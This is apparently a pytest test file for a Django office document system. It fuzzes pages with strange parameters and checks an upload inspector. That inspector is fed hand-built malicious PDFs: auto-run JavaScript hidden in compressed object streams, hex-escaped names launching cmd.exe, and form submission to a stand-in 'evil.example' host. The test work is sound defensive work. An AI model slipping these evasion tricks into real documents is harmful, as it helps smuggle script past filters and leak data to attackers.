"""What nobody types: NUL, numbers without end, files that are not what they say (A11, A13, A20)."""

from __future__ import annotations

import io
import zipfile
import zlib
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image

from documents.receipt.workflow import State
from office.files.inspection import inspect
from office.importing import day
from office.people.models import User
from tests.documents.factories import Office, walk
from tests.office.factories import UserFactory, signed_in
from tests.office.papers import docx, pdf, zipped

LONG = "9" * 5000  # int() itself stops at 4,300 digits
STRANGE = ["\0", LONG, "9" * 30, "-1", "²", "[" * 500]
PAGES = {
    "documents:incoming": (
        "q", "nature", "urgency", "state", "receipt_class", "unit", "since", "until", "due",
        "view", "sort", "after", "before",
    ),
    "documents:incoming-look-alikes": ("sender", "doc_number", "title", "but"),
    "office:search": ("q", "after"),
    "office:reading": ("page",),
    "office:bell": ("page",),
}  # fmt: skip


def no_error(answer: Any, what: object) -> None:
    assert answer.status_code < 500, (what, answer.status_code)


@pytest.mark.parametrize("page", PAGES)
def test_a13_a20_no_parameter_of_an_address_breaks_a_page(office: Office, page: str) -> None:
    client = signed_in(office.clerk)
    for name in PAGES[page]:
        for value in STRANGE:
            no_error(client.get(reverse(page), {name: value}), (name, value[:20]))


@pytest.mark.parametrize(
    ("address", "field"),
    [
        ("/seat/", "seat"), ("/notices/read/", "notice"), ("/documents/incoming/batch/", "row"),
        ("/documents/incoming/slips.pdf", "row"),
        ("/documents/incoming/sign-for/", "delivery_list"), ("/language/", "next"),
        ("/documents/incoming/new/", "duplicate"), ("/documents/incoming/sign-for/", "once"),
        ("/settings/", "phone"), ("/acting/", "deputy"),
    ],
)  # fmt: skip
def test_a20_no_field_of_a_form_breaks_a_page(office: Office, address: str, field: str) -> None:
    client = signed_in(office.clerk)
    for value in STRANGE:
        given = {field: value, "action": "urge"}
        no_error(client.post(address, given), (field, value[:20]))


def test_a20_nul_among_the_words_is_refused_before_anything_is_written(office: Office) -> None:
    row = walk(None, State.PROPOSED, office)
    client = signed_in(office.principal)
    given = {"row": row.pk, "action": "instruct", "go": "1", f"opinion-{row.pk}": "同意\0。"}
    assert client.post("/documents/incoming/batch/", given).status_code == 400
    assert not row.opinions.filter(step="instruct").exists()


def test_a20_a_page_of_a_leaver_takes_only_keys(office: Office) -> None:
    client = signed_in(office.system)
    for value in (LONG, "9" * 30, "x", "-1"):
        address = reverse("office:leave", args=[office.staff.pk])
        assert client.post(address, {"post": value}).status_code == 404
    assert User.objects.get(pk=office.staff.pk).is_active


BOOKS = {
    "system": ("office_unit", "office_user", "office_post", "office_exceptionalday"),
    "security": ("office_user",),
    "audit": ("office_entry", "office_user"),
    "director": ("documents_incomingdocument", "documents_sender", "documents_retentionclass"),
}


@pytest.mark.parametrize("who", BOOKS)
def test_a13_a20_no_parameter_breaks_the_back_office(office: Office, who: str) -> None:
    client = signed_in(getattr(office, who))
    names = ("q", "p", "o", "role", "held", "action", "year", "unit__id__exact", "state__exact",
             "day__year", "kind", "approved_on__isempty", "_to_field")  # fmt: skip
    for book in BOOKS[who]:
        for name in names:
            for value in ("\0", "9" * 30, "-1"):
                answer = client.get(reverse(f"admin:{book}_changelist"), {name: value})
                no_error(answer, (book, name, value))
        for key in ("x", "_5F00", "9" * 30, "%00"):
            no_error(client.get(f"/admin/{book.replace('_', '/')}/{key}/change/"), (book, key))
            no_error(client.get(f"/admin/{book.replace('_', '/')}/{key}/one-time-password/"), key)


# Files


def packed_script() -> bytes:
    """A PDF whose action lies compressed in an object stream, where no search of bytes finds it."""
    action = b"<</S/JavaScript/JS(app.alert(1))>>"
    inside = zlib.compress(b"4 0 " + action)
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(inside), inside),
    }
    out, places = b"%PDF-1.7\n", {}
    for number, thing in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    places[6] = len(out)
    table = b"\0\0\0\0\0\xff"
    for n in range(1, 7):
        kind, at = (2, 5) if n == 4 else (1, places[n])
        table += bytes([kind]) + at.to_bytes(4, "big") + b"\0"
    head = b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % places[6]
    return out + head + table + end


SCRIPTS = {
    "in a stream": packed_script(),
    "spelt in figures": pdf(catalog=b"/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"),
    "launch in figures": pdf(catalog=b"/OpenAction<</S/L#61unch/F(cmd.exe)>>"),
    "sends a form": pdf(catalog=b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"),
    "takes data in": pdf(catalog=b"/OpenAction<</S/ImportData/F(x)>>"),
}


@pytest.mark.parametrize("how", SCRIPTS)
def test_a11_a_script_is_found_wherever_a_pdf_hides_it(how: str) -> None:
    assert judged("a.pdf", SCRIPTS[how]) == "script"


def test_a11_a_script_comes_in_by_no_form(office: Office) -> None:
    row = walk(None, State.HANDLING, office)
    client = signed_in(office.staff)
    address = reverse("documents:incoming-step", args=[row.pk, "attach"])
    for name in ("file", "files"):
        upload = SimpleUploadedFile("通知.pdf", packed_script(), "application/pdf")
        assert client.post(address, {name: upload}).status_code == 422
    assert client.get(reverse("documents:incoming-trail", args=[row.pk])).status_code == 200


def judged(name: str, data: bytes) -> str:
    """Return why a file is refused, or nothing; anything but a refusal is an error."""
    try:
        inspect(SimpleUploadedFile(name, data))
    except ValidationError as refusal:
        return str(refusal.code)
    return ""


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_a11_a_damaged_image_is_refused_not_an_error() -> None:
    file = io.BytesIO()
    Image.new("L", (10, 10)).save(file, "TIFF")
    good, found = file.getvalue(), set()
    for at in range(8, len(good) - 3):
        found.add(judged("a.tif", good[:at] + b"\xee\xee\xee" + good[at + 3 :]))
    assert found <= {"", "damaged", "pixels", "pages"}
    assert "damaged" in found


def test_a11_a_damaged_archive_is_refused_not_an_error() -> None:
    good = docx()
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        start = archive.getinfo("word/document.xml").header_offset + 30 + len("word/document.xml")
    for turn in range(24):
        data = bytearray(good)
        data[start + turn] ^= 0xFF
        assert judged("a.docx", bytes(data)) in {"", "damaged"}


def test_a20_a_long_docx_is_not_read_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    body = b"<w:p>" + b"A" * (18 * 2**20)
    parts = {"[Content_Types].xml": b"<Types/>", "word/document.xml": body}
    upload = SimpleUploadedFile("a.docx", zipped(parts))
    asked: list[int] = []
    read = zipfile.ZipExtFile.read

    def counted(self: Any, n: int = -1) -> bytes:
        asked.append(n)
        return read(self, n)

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counted)
    assert len(inspect(upload).text) <= 200_000
    assert all(0 <= n <= 8 * 2**20 for n in asked)


@pytest.mark.parametrize("cell", [float("inf"), float("-inf"), float("nan"), 1e300, -1])
def test_a26_a_number_without_end_is_no_day(cell: float) -> None:
    with pytest.raises(ValidationError):
        day(cell)


@pytest.mark.parametrize(
    "name", ["机 密★5年.pdf", "（秘密）方案.pdf", "(绝密)a.pdf", "【机 密】.txt"]
)
def test_a29_a_mark_written_wide_or_in_round_brackets_is_seen(name: str) -> None:
    assert judged(name, pdf()) == "classified"


@pytest.mark.django_db
def test_a20_an_unknown_visitor_breaks_nothing_either() -> None:
    UserFactory(username="chenmin")
    for value in ("\0", LONG):
        for name in ("username", "password", "next"):
            given = {"username": "chenmin", "password": "x", "next": "/"} | {name: value}
            answer = Client().post("/sign-in/", given, REMOTE_ADDR="10.9.9.9")
            no_error(answer, (name, value[:20]))


FORM = zlib.compress(b"<xdp><script contentType='application/x-javascript'>1</script></xdp>")
ACTIONS = {
    "a form that runs": b"/AcroForm<</Fields[]/XFA 4 0 R>>",
    "a rendition": rb"/OpenAction<</S/Rendition/OP 0/JS(app.alert\(1\))>>",
    "another paper": rb"/OpenAction<</S/GoToR/F(\\\\evil\\x.pdf)/D[0/Fit]>>",
    "a link that runs": rb"/OpenAction<</S/URI/URI(javascript:alert\(1\))>>",
}


@pytest.mark.parametrize("catalog", ACTIONS.values(), ids=ACTIONS.keys())
def test_a11_every_way_a_paper_acts_when_it_is_opened(catalog: bytes) -> None:
    parts = [
        b"<</Type/Catalog/Pages 2 0 R " + catalog + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%b\nendstream" % (len(FORM), FORM),
    ]  # fmt: skip
    out, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(out)
    out += b"xref\n0 5\n0000000000 65535 f \n" + table + end
    with pytest.raises(ValidationError):
        inspect(SimpleUploadedFile("a.pdf", out))
